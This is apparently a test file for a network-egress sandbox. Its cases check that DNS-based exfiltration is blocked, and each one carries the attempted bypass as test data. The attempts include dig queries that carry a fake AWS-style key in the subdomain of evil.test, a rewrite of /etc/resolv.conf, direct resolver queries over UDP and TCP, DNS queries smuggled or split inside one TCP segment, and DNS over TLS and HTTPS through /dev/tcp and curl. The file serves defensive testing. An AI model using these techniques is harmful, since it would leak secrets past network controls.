// SPDX-License-Identifier: Apache-2.0
import { ORIGINS } from '../_internet/addresses.ts'
import type { Arrival } from '../_internet/internet.ts'
import { bypass } from './_bypass.ts'

const askedFor =
  (part: string) =>
  (arrival: Arrival): boolean =>
    arrival.kind === 'dns' && String(arrival['name']).includes(part)

const QUERY = `import socket, struct
def query(name):
    labels = b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.'))
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', 1, 1)
def framed(name):
    return struct.pack('>H', len(query(name))) + query(name)
server = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')][0]
`

bypass({
  never: 'a name carries a secret to its name server',
  rows: [16, 28],
  script: 'dig +time=2 +tries=1 AKIASECRETKEY0123456789.stage1.evil.test; getent hosts AKIASECRETKEY9876543210.evil.test',
  through: askedFor('akiasecretkey'),
  refusal: 'no-rule',
})
bypass({
  never: 'a name below an allowed one, which no rule names, is asked for',
  rows: [28],
  script: 'dig +time=2 +tries=1 AKIASECRETKEY.web.test',
  through: askedFor('akiasecretkey'),
  refusal: 'no-rule',
})
bypass({
  never: 'a question below an allowed wildcard leaves, though nobody connects',
  rows: [16, 28],
  allow: ['*.cdn.test:443'],
  script: 'for i in 1 2 3; do dig +time=2 +tries=1 AKIASECRETKEY-$i.cdn.test; done; getent ahosts AKIASECRETKEY-4.cdn.test',
  through: askedFor('akiasecretkey'),
  refusal: null,
})
bypass({
  never: 'a step that writes another name server into /etc/resolv.conf asks it',
  rows: [24, 28],
  script: `echo nameserver ${ORIGINS.publicDns} > /etc/resolv.conf; getent ahosts secret.evil.test; dig +time=2 +tries=1 secret.evil.test`,
  through: (arrival) => arrival.kind === 'dns' && String(arrival['over']).includes(ORIGINS.publicDns),
  refusal: 'no-rule',
})
bypass({
  never: 'a record type that carries text brings a question out',
  rows: [28],
  allow: ['*.cdn.test:443'],
  script: 'for t in TXT MX NULL HTTPS SVCB CNAME SRV ANY; do dig +time=2 +tries=1 $t SECRET-$t.cdn.test; done',
  through: (arrival) => arrival.kind === 'dns' && ![1, 28].includes(Number(arrival['type'])),
  refusal: null,
})
bypass({
  never: 'a name server of its own choice answers a step, over UDP',
  rows: [30],
  script: `dig +time=2 +tries=1 @${ORIGINS.publicDns} secret.evil.test`,
  through: (arrival) => arrival['over'] === `udp ${ORIGINS.publicDns}`,
  refusal: 'no-rule',
})
bypass({
  never: 'a name server of its own choice answers a step, over TCP',
  rows: [29, 30],
  script: `dig +tcp +time=2 +tries=1 @${ORIGINS.publicDns} secret.evil.test`,
  through: (arrival) => arrival['over'] === `tcp ${ORIGINS.publicDns}`,
  refusal: 'no-rule',
})
bypass({
  never: 'a second question in the same segment goes unjudged',
  rows: [29],
  files: {
    'attack.py': `${QUERY}s = socket.create_connection((server, 53), 3)\ns.sendall(framed('web.test') + framed('smuggled.evil.test') + framed('web.test'))\ns.settimeout(1)\ntry:\n    while s.recv(1000): pass\nexcept OSError: pass\n`,
  },
  script: 'python3 attack.py',
  through: askedFor('smuggled'),
  refusal: 'no-rule',
})
bypass({
  never: 'a question in another case, with a final dot, or split over segments goes unjudged',
  rows: [28, 29],
  files: {
    'attack.py': `${QUERY}import time\ns = socket.create_connection((server, 53), 3)\nfor byte in framed('SmUgGlEd.eViL.tEsT'):\n    s.sendall(bytes([byte]))\n    time.sleep(0.005)\ns.settimeout(1)\ntry:\n    s.recv(1000)\nexcept OSError: pass\n`,
  },
  script: 'dig +time=2 +tries=1 SMUGGLED.EVIL.TEST.; python3 attack.py',
  through: askedFor('smuggled'),
  refusal: 'no-rule',
})
bypass({
  never: 'DNS over TLS reaches a resolver',
  rows: [30],
  script: `exec 3<>/dev/tcp/${ORIGINS.publicDns}/853 && echo hello >&3`,
  through: (arrival) => arrival['address'] === ORIGINS.publicDns && arrival['port'] === 853,
  refusal: 'no-rule',
})
bypass({
  never: 'DNS over HTTPS reaches a resolver',
  rows: [30],
  script: `curl -skS -m 3 https://${ORIGINS.publicDns}/dns-query?dns=AAAB`,
  through: (arrival) => arrival['address'] === ORIGINS.publicDns && arrival['port'] === 443,
  refusal: 'no-rule',
})
bypass({
  never: 'DNS over HTTPS is spoken with an allowed host whose rule means other paths',
  rows: [30],
  rules: '  - { host: web.test, methods: [GET, POST], path: /acme/** }',
  script: `curl -skS -m 3 -H 'Content-Type: application/dns-message' -d AAAB https://web.test/dns-query; curl -skS -m 3 https://web.test/dns-query?dns=AAAB`,
  through: (arrival) => String(arrival['uri']).startsWith('/dns-query'),
  refusal: 'path',
})
